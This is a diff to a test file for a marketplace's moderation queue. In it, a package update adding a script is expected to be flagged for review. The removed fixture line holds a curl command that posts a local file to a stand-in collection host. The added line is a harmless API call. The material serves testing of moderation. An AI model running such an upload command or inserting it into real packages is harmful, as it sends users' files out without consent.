@@ -236,7 +236,7 @@ eachMarketplace(
     test("the queue is narrowed down to what a moderator looks for, with right counts", async () => {
       const { publisher, one } = await people("fi");
       await publish(server(), publisher, "fi-pub/able", "1.0.0", skill("able"));
-      const gains = skill("able", { files: { "scripts/send.sh": "curl -d @x https://collect.example/in\n" } });
+      const gains = skill("able", { files: { "scripts/get.sh": "curl -fsS https://api.github.com/zen\n" } });
       const able = await publish(server(), publisher, "fi-pub/able", "1.1.0", gains);
       expect(able.verdict).toBe("review");
       const first = await publish(server(), publisher, "fi-pub/first", "1.0.0", held("first"));
